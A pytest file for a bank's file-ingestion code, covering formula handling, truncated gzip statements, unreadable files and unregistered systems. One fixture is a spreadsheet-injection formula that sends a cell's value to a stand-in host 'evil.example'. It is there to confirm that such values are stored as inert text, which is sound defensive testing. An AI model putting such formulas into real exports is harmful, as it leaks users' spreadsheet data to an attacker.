"""What must never do harm, whatever the format."""

import gzip
from pathlib import Path

import pytest

from customers import ingestion
from customers.ingestion import UnknownHeader, UnknownSystem, UnreadableFile, reading
from customers.ingestion.feeds import meridian
from tests.customers.ingestion import exporters
from tests.customers.ingestion.extracts import AT, count, rows, rows_of, send, send_one_customer, write

pytestmark = pytest.mark.django_db


def test_a_formula_is_kept_as_the_text_it_is(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example?x="&A1;"Click")'
    send_one_customer(tmp_path)
    assert (
        send(
            tmp_path, meridian.TRANSACTIONS, {"counterparty": formula, "purpose": "+1+1", "amount": "=1+1"}, {"counterparty": formula}
        ).rejected
        == 1
    )

    assert rows("SELECT counterparty FROM customers_transaction") == [(formula,)]
    (reject,) = ingestion.open_rejects()
    assert (reject.code, reject.row["amount"], reject.row["purpose"]) == ("bad_amount", "=1+1", "+1+1")


@pytest.mark.parametrize("write_statement", [exporters.camt053, exporters.mt940, exporters.open_banking_uk])
def test_a_cut_gzip_of_any_format_keeps_whole_chunks_and_comes_again_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, write_statement
) -> None:
    monkeypatch.setattr(reading, "ROWS_PER_CHUNK", 50)
    send_one_customer(tmp_path / "before")
    lines = [{"entry_id": str(n), "amount": "1.00", "balance_after": f"{n}.00", "purpose": f"purpose {n * n}"} for n in range(1, 2_001)]
    whole = gzip.compress(write_statement(tmp_path / "plain", rows_of(meridian.TRANSACTIONS, *lines)).read_bytes())
    cut = tmp_path / "statement.gz"
    cut.write_bytes(whole[: int(len(whole) * 0.8)])

    with pytest.raises(UnreadableFile, match="is cut off behind"):
        ingestion.ingest("core", [cut], at=AT)
    assert 0 < count("transaction") < 2_000
    assert count("transaction") % 50 in (0, 49)  # a place of a chunk may be a balance

    cut.write_bytes(whole)
    assert ingestion.ingest("core", [cut], at=AT).rejected == 0
    assert count("transaction") == 2_000


@pytest.mark.parametrize(
    ("content", "error", "what"),
    [
        (b"<html><body>Please sign in</body></html>", UnknownHeader, "is XML of a kind bankos doesn't read: “html”"),
        (b"<unclosed", UnreadableFile, "isn't well-formed XML"),
        (b"PK\x03\x04\x00\x00\x00\x00", UnreadableFile, "isn't text in UTF-8"),
        (b'{"hello": "world"}\n', UnknownHeader, "doesn't begin with the header"),
        ("branch_code,name,town\n".encode("utf-16"), UnreadableFile, "isn't text in UTF-8|isn't UTF-8"),
    ],
)
def test_what_nobody_can_read_is_kept_with_its_reason(tmp_path: Path, content: bytes, error: type[Exception], what: str) -> None:
    path = tmp_path / "file"
    path.write_bytes(content)

    with pytest.raises(error, match=what):
        ingestion.ingest("core", [path], at=AT)
    ((system, name, state, reason),) = rows("SELECT system_id, name, state, problem FROM customers_sourcefile")
    assert (system, name) == ("core", "file")
    assert state == ("waiting" if content.startswith(b"{") else "stopped")  # a table may wait for a mapping
    assert reason.startswith("file ")


def test_a_file_of_a_system_nobody_registered_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UnknownSystem, match="“nobody” is not a system bankos reads"):
        ingestion.ingest("nobody", [write(tmp_path / "b.csv", meridian.BRANCHES, rows_of(meridian.BRANCHES, {}))], at=AT)
